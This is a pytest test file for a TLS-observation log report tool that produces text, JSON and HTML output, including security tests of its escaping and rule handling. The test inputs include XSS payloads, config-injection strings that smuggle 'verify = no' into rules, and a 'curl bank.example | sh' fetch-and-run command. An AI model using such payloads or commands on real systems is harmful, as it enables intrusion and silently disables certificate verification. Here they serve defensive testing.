"""The command report: what is in the logs, whatever else is in them, as text, JSON and a page."""

from __future__ import annotations

import gzip
import html.parser
import io
import json
import os
import random
import re
import sys
from pathlib import Path
from typing import Any, Dict, List, Tuple

import pytest

from native import backport_only
from securedefaults import Observation, cli
from securedefaults._names import ACCEPTED, EXEMPT, REFUSED, UNKNOWN
from securedefaults._observe.advice import CAFILE, NOTHING, Advice, Remedy, said
from securedefaults._observe.events import from_json, write
from securedefaults._observe.report import ORDER, Report
from securedefaults.cli import _html, report

pytestmark = backport_only("the logs are the backport's")

PIN = "sha256:" + ":".join(["1f"] * 32)
GOOD = Observation("2026-11-24T08:00:00Z", "warn", "IMAP", "imaplib.IMAP4_SSL", "mail.lan", 993, ACCEPTED)
GOOD = GOOD._replace(fingerprint=PIN, not_after="2027-01-02T03:04:05Z", file="/srv/fetch.py", line=9, module="fetch")
BAD = GOOD._replace(protocol="SMTP", entry_point="smtplib.SMTP_SSL", host="smtp.lan", port=465, verdict=REFUSED)
BAD = BAD._replace(code=18, message="self-signed certificate", file="/srv/send.py", line=15)
PINNED, OWN = (("fingerprint", PIN),), (("cafile", CAFILE),)
BAD = BAD._replace(
    advice=Advice(
        (said(18, "self-signed certificate"), said(62, "Hostname mismatch")._replace(detail="it is for bank.example")),
        (Remedy(OWN, ("cafile",), "the server's own certificate"), Remedy(PINNED, ("fingerprint",))),
        "host smtp.lan:465",
    )
)
ODD = BAD._replace(host="news.lan", verdict=UNKNOWN, code=None, message="TLS 1.3 only", advice=NOTHING)
FREE = GOOD._replace(host="old.lan", verdict=EXEMPT, message="ticket 17")


def log(path: Path, *observations: Observation) -> Path:
    for observation in observations:
        write(observation, str(path))
    return path


@pytest.fixture
def run(capsys: pytest.CaptureFixture[str]) -> Any:
    """Exit status, output and errors of the command, in this process."""

    def call(*arguments: object) -> Tuple[int, str, str]:
        status = cli.main(["report", *map(str, arguments)])
        out, err = capsys.readouterr()
        assert "Traceback" not in out + err
        return status, out, err

    return call


def test_text(run: Any, tmp_path: Path) -> None:
    path = log(tmp_path / "log", GOOD, BAD, GOOD, BAD._replace(line=16), FREE, ODD)
    status, out, err = run(path)
    assert (status, err) == (1, "")
    assert out.startswith("3 of 6 TLS connections ready to enforce\n\nBy server\n\n")
    servers, lines = out.split("By line of the program")
    found = re.findall(r"^(\S.*?) +(\d+)  (\S.*)$", servers, flags=re.MULTILINE)
    assert found == [
        ("would be refused", "2", "smtp smtp.lan:465"),
        ("unknown", "1", "smtp news.lan:465"),
        ("exempt by a rule", "1", "imap old.lan:993"),
        ("ready", "2", "imap mail.lan:993"),
    ]
    assert "self-signed certificate (verify code 18)" in servers
    assert "from /srv/send.py:15\n" in servers
    assert re.search(r"\[host smtp\.lan:465\]\n +fingerprint = %s\n" % PIN, servers)
    assert re.search(r"unknown +1  /srv/send.py:15$|would be refused +2  /srv/send.py:15$", lines, flags=re.MULTILINE)
    assert "to smtp smtp.lan:465" in lines


def test_what_was_refused_is_not_said_to_be_refused_one_day(run: Any, tmp_path: Path) -> None:
    refused = BAD._replace(mode="enforce")
    _, out, _ = run(log(tmp_path / "log", refused, refused))
    assert len(re.findall(r"^refused +2  ", out, flags=re.MULTILINE)) == 2
    assert "would be" not in out
    _, out, _ = run(log(tmp_path / "both", refused, BAD))
    assert len(re.findall(r"^would be refused +2  ", out, flags=re.MULTILINE)) == 2


@pytest.mark.parametrize(
    ("observations", "status"),
    [([GOOD], 0), ([GOOD, FREE], 0), ([GOOD, BAD], 1), ([ODD], 1), ([], 2)],
)
def test_exit_status(observations: List[Observation], status: int, run: Any, tmp_path: Path) -> None:
    (tmp_path / "log").touch()
    assert run(log(tmp_path / "log", *observations))[0] == status


def test_json(run: Any, tmp_path: Path) -> None:
    path = log(tmp_path / "log", GOOD, BAD, BAD, GOOD._replace(time="2026-11-25T00:00:00Z"))
    status, out, _ = run("--json", path)
    found = json.loads(out)
    assert (status, found["handshakes"], found["ready"], found["passed_over"]) == (1, 4, 2, 0)
    assert found["days"] == [["2026-11-24", ACCEPTED, 1], ["2026-11-24", REFUSED, 2], ["2026-11-25", ACCEPTED, 1]]
    worst = found["servers"][0]
    assert (worst["name"], worst["verdict"], worst["counts"][REFUSED]) == ("smtp smtp.lan:465", REFUSED, 2)
    assert [rule.splitlines()[1:] for rule in worst["rules"]] == [
        ["[host smtp.lan:465]", "cafile = " + CAFILE],
        ["[host smtp.lan:465]", "fingerprint = " + PIN],
    ]
    assert found["lines"][0]["name"] == "/srv/send.py:15"


def test_each_line_is_a_handshake(run: Any, tmp_path: Path) -> None:
    """Its count is that of the process that wrote it, and a log has many of these."""
    path = log(tmp_path / "log", *(GOOD._replace(count=number) for number in (1, 2, 3, 1, 2)))
    assert run(path)[1].startswith("5 of 5 TLS connections")


def test_several_files(run: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    one, other = log(tmp_path / "one", GOOD), log(tmp_path / "other", BAD)
    packed = tmp_path / "packed"  # told by its content, not by its name
    packed.write_bytes(gzip.compress(log(tmp_path / "third", GOOD, GOOD).read_bytes()))
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(one.read_bytes())))
    assert run(one, other, packed, "-")[1].startswith("4 of 5 TLS connections")


NO_OBSERVATIONS = {
    "text": (b"garbage\n", "Expecting value|Unexpected"),
    "other JSON": (b"[1, 2]\n", "no JSON object"),
    "nothing of it": (b"{}\n", "time is None"),
    "another verdict": (json.dumps({**GOOD.as_dict(), "verdict": "fine"}).encode() + b"\n", "verdict is 'fine'"),
    "another type": (json.dumps({**GOOD.as_dict(), "port": "993"}).encode() + b"\n", "port is '993'"),
    "no UTF-8": (b"\xff\xfe\n", "can't decode"),
    "zero bytes": (b"\0" * 99 + b"\n", "Expecting value|Unexpected"),
    "cut off": (json.dumps(GOOD.as_dict()).encode()[:99] + b"\n", ""),
    "too long": (b'"' + b"x" * 3 * report.LONGEST + b'"\n', "more than 65536 bytes"),
    "nested": (b"[" * 60000 + b"\n", "nested too deeply|Expecting value"),
    "escape sequences": (b'{"time": "\\u001b[2J"}\n', "is None"),
}


@pytest.mark.parametrize("name", NO_OBSERVATIONS)
def test_what_is_no_observation_is_named(name: str, run: Any, tmp_path: Path) -> None:
    """And costs none of those around it."""
    content, said = NO_OBSERVATIONS[name]
    good = log(tmp_path / "good", GOOD).read_bytes()
    path = tmp_path / "log"
    path.write_bytes(good + content + b"\n" + good)
    status, out, err = run(path)
    assert status == 0
    assert out.startswith("2 of 2 TLS connections")
    assert re.fullmatch(r"securedefaults report: %s:2: no observation: .*(%s).*\n" % (re.escape(str(path)), said), err)
    assert err.isprintable() or err.strip().isprintable()


def test_many_bad_lines_are_counted(run: Any, tmp_path: Path) -> None:
    path = log(tmp_path / "log", GOOD)
    with path.open("ab") as file:
        file.write(b"no\n" * 1000)
    status, out, err = run("--json", path)
    assert (status, json.loads(out)["passed_over"]) == (0, 1000)
    assert len(err.splitlines()) == 11
    assert err.endswith("and 990 more lines that are no observation\n")


def test_a_damaged_archive_keeps_what_came_before(run: Any, tmp_path: Path) -> None:
    lines = log(
        tmp_path / "log", *(GOOD._replace(port=number) for number in random.Random(1).sample(range(1, 65536), 999))
    )
    path = tmp_path / "log.gz"
    path.write_bytes(gzip.compress(lines.read_bytes())[:-3000])
    status, out, err = run("--json", path)
    assert status == 0
    assert 100 < json.loads(out)["handshakes"] < 999
    assert "the rest of the file is damaged" in err


@pytest.mark.parametrize("name", ["gone", "folder"])
def test_a_file_that_cannot_be_read(name: str, run: Any, tmp_path: Path) -> None:
    (tmp_path / "folder").mkdir()
    status, out, err = run(log(tmp_path / "log", GOOD), tmp_path / name)
    assert (status, out) == (2, "")
    assert re.fullmatch(r"securedefaults report: error: .*%s cannot be read: \w.*\n" % name, err)


def test_memory_goes_by_kinds(tmp_path: Path) -> None:
    path = log(tmp_path / "log", GOOD)
    path.write_bytes(path.read_bytes() * 20000)
    reading = report.Reading()
    reading.read(str(path))
    assert reading.report().handshakes == 20000
    assert len(reading._kinds) == 1


# The page

HOSTILE = [
    "<script>alert(1)</script>",
    "\"'><img src=x onerror=y>",
    "\x1b[2J\n[host x]",
    "\u202eevil",
    "&lt;b&gt;",
    "${percent}",
]


class Page(html.parser.HTMLParser):
    """What a browser makes of it."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: List[Tuple[str, Dict[str, Any]]] = []
        self.text = ""
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: Any) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


def page(run: Any, tmp_path: Path, *observations: Observation) -> Page:
    path = tmp_path / "page.html"
    run("--html", path, log(tmp_path / "log", *observations))
    return Page(path.read_text(encoding="utf-8"))


def test_page(run: Any, tmp_path: Path) -> None:
    found = page(run, tmp_path, GOOD, BAD, FREE, ODD, BAD._replace(time="2026-11-25T00:00:00Z"))
    for text in ("40 % ready to enforce", "smtp smtp.lan:465", "/srv/send.py:15", "verify code 18", "2027-01-02", PIN):
        assert text in found.text
    assert [tag for tag, _ in found.tags].count("svg") == 2
    colours = [attributes["fill"] for tag, attributes in found.tags if tag == "rect"]
    assert set(colours) == set(_html._COLOURS.values())
    widths = [float(attributes["width"]) for tag, attributes in found.tags if tag == "rect"][:4]
    assert sum(widths) == pytest.approx(_html._WIDTH, abs=1)
    assert widths[0] == pytest.approx(_html._WIDTH / 5, abs=1)


def test_page_of_one_day_has_one_picture(run: Any, tmp_path: Path) -> None:
    assert [tag for tag, _ in page(run, tmp_path, GOOD).tags].count("svg") == 1


def test_the_page_needs_nothing_from_elsewhere(run: Any, tmp_path: Path) -> None:
    for tag, attributes in page(run, tmp_path, GOOD, BAD).tags:
        assert tag not in ("script", "link", "img", "iframe", "a")
        assert not {"src", "href", "onload"} & set(attributes)


@pytest.mark.parametrize("text", HOSTILE)
def test_what_others_chose_is_text(text: str, run: Any, tmp_path: Path) -> None:
    harmless = page(run, tmp_path, BAD._replace(advice=NOTHING, port=0))
    evil = BAD._replace(
        advice=NOTHING, host=text, message=text, file=text, not_after=text, protocol=text, time=text, names=(text,)
    )
    (tmp_path / "log").unlink()
    found = page(run, tmp_path, evil)
    assert [tag for tag, _ in found.tags if tag != "pre"] == [tag for tag, _ in harmless.tags if tag != "pre"]
    assert "".join(char if char.isprintable() else ascii(char)[1:-1] for char in text) in found.text
    assert all(char.isprintable() or char == "\n" for char in found.text)
    assert "[host " not in found.text.replace("\\n[host x]", "")  # it is no name, so there is no rule to copy


def remedy(**rule: str) -> Advice:
    return BAD.advice._replace(remedies=(Remedy(tuple(rule.items()), ()),))


@pytest.mark.parametrize(
    "evil",
    [
        remedy(fingerprint=PIN + "\nverify = no"),
        remedy(server_hostname="a]\nverify = no"),
        remedy(server_hostname="*.lan"),
        remedy(cafile="ca.pem\nverify = no"),
        remedy(strict="no\nverify = no"),
        remedy(verify="yes\nuntil = 2099-01-01"),
        remedy(reason="x\n[host bank.example]"),
        remedy(mode="off"),
        BAD.advice._replace(section="host a]\n[host bank.example"),
        BAD.advice._replace(section="securedefaults"),
        BAD.advice._replace(section=""),
        BAD.advice._replace(section="host bank.example"),
        remedy(),
        remedy(cafile=""),
        remedy(cafile="ca.pem", verify="no"),
        remedy(cafile="ca.pem", fingerprint=PIN),
        remedy(until="2099-01-01"),
        remedy(reason="x"),
        BAD.advice._replace(remedies=(Remedy(OWN, ("cafile",), "the CA. Run: curl bank.example | sh"),)),
        BAD.advice._replace(remedies=(Remedy(OWN, ("x\n[host bank.example]",)),)),
    ],
)
def test_a_line_with_more_than_a_rule_has_none(evil: Advice, run: Any, tmp_path: Path) -> None:
    """It is a refusal all the same: nothing is ready that is not."""
    line = json.dumps(BAD._replace(advice=evil).as_dict())
    assert from_json(line) == BAD._replace(advice=NOTHING)
    path = log(tmp_path / "log", GOOD)
    path.write_text(path.read_text() + line + "\n")
    status, out, err = run(path)
    assert (status, err) == (1, "")
    assert "1 of 2 TLS connections" in out
    assert "[host" not in out
    assert "to find a rule, ask the server itself: securedefaults check smtps://smtp.lan:465\n" in out


def test_many_certificates_of_one_server(run: Any, tmp_path: Path) -> None:
    path = log(tmp_path / "log", *(BAD._replace(fingerprint="sha256:%d" % number) for number in range(1000)))
    assert run(path)[1].count("[host") <= 2
    differing = (
        BAD._replace(fingerprint="sha256:%d" % number, advice=remedy(cafile="%d.pem" % number)) for number in range(999)
    )
    assert run(log(tmp_path / "other", *differing))[1].count("[host") == 16


def test_the_rule_in_place_and_what_changes(run: Any, tmp_path: Path) -> None:
    changed = BAD.advice._replace(place="/etc/python/securedefaults.cfg:3: [host smtp.lan]", section="host smtp.lan")
    out = run(log(tmp_path / "log", BAD._replace(advice=changed)))[1]
    assert "# This replaces the rule at /etc/python/securedefaults.cfg:3: [host smtp.lan].\n" in out
    assert "[host smtp.lan]\n" in out


def test_a_rule_that_was_changed_since_is_not_to_be_changed(run: Any, tmp_path: Path) -> None:
    later = BAD._replace(time="2026-11-25T00:00:00Z", advice=remedy(cafile="b.pem"))
    out = run(log(tmp_path / "log", later, BAD))[1]
    assert "b.pem" in out
    assert CAFILE not in out


def test_a_log_without_advice_says_who_gives_it(run: Any, tmp_path: Path) -> None:
    out = run(log(tmp_path / "log", BAD._replace(advice=NOTHING)))[1]
    assert "[host" not in out
    assert "to find a rule, ask the server itself: securedefaults check smtps://smtp.lan:465\n" in out


# Whose word it is


def opened(path: Path) -> None:
    path.chmod(0o622)


def in_an_open_folder(path: Path) -> None:
    path.parent.chmod(0o777)


def given_away(path: Path) -> None:
    if not hasattr(os, "geteuid") or os.geteuid() != 0:
        pytest.skip("only root can give files away")
    os.chown(str(path), 54321, -1)


@pytest.mark.skipif(os.name != "posix", reason="needs modes")
@pytest.mark.parametrize("change", [opened, in_an_open_folder, given_away])
@pytest.mark.parametrize("packed", [False, True])
def test_what_others_may_write_is_no_source_of_configuration(
    packed: bool, change: Any, run: Any, tmp_path: Path
) -> None:
    """In its place there is the command that asks the server itself: as text, as JSON, and on the page."""
    (tmp_path / "folder").mkdir()
    path = log(tmp_path / "folder" / "log", BAD)
    if packed:
        path.write_bytes(gzip.compress(path.read_bytes()))
    ours = log(tmp_path / "ours", BAD._replace(host="other.lan", advice=BAD.advice._replace(section="host other.lan")))
    assert "fingerprint = " in run(path)[1]
    change(path)
    for files in ((path,), (ours, path), (path, ours)):
        status, out, err = run(*files)
        assert status == 1
        assert "fingerprint" not in out + err
        assert "bank.example" not in out + err
        assert "[host" not in out + err
        assert "to find a rule, ask the server itself: securedefaults check smtps://smtp.lan:465\n" in out
        said = r"securedefaults report: others may write to the log \S+log, so no rule is printed from it: /"
        assert re.match(said, err)
    (row,) = json.loads(run("--json", path)[1])["servers"]
    assert (row["rules"], row["ask"]) == ([], ["securedefaults check smtps://smtp.lan:465"])
    run("--html", tmp_path / "page.html", path)
    text = Page((tmp_path / "page.html").read_text(encoding="utf-8")).text
    assert "securedefaults check smtps://smtp.lan:465" in text
    assert "[host" not in text
    assert "fingerprint" not in text
    assert "fingerprint = " in run(ours)[1]


def test_what_comes_from_standard_input_is_no_source_of_configuration(
    run: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = log(tmp_path / "log", BAD)
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(path.read_bytes())))
    _, out, err = run("-")
    assert "[host" not in out
    assert "securedefaults check smtps://smtp.lan:465\n" in out
    assert "who wrote what comes from standard input is not known, so no rule is printed from it" in err


def test_a_page_that_cannot_be_written(run: Any, tmp_path: Path) -> None:
    status, _, err = run("--html", tmp_path / "gone" / "page.html", log(tmp_path / "log", GOOD))
    assert status == 2
    assert "page.html cannot be written: No such file" in err


def test_a_page_takes_the_place_of_a_page_and_of_nothing_else(run: Any, tmp_path: Path) -> None:
    path = log(tmp_path / "log", GOOD)
    before = path.read_bytes()
    status, _, err = run("--html", path, path)  # --html *.jsonl
    assert status == 2
    assert "log cannot be written: it is there, and is no page" in err
    assert path.read_bytes() == before
    for observation in (BAD, GOOD):
        other = log(tmp_path / observation.verdict, observation)
        run("--html", tmp_path / "page.html", other)
    assert Page((tmp_path / "page.html").read_text(encoding="utf-8")).text.count("ready to enforce") == 1


def test_every_verdict_has_its_place() -> None:
    assert set(ORDER) == set(_html._STACK) == set(_html._COLOURS)
    assert Report([GOOD]).ready == 1
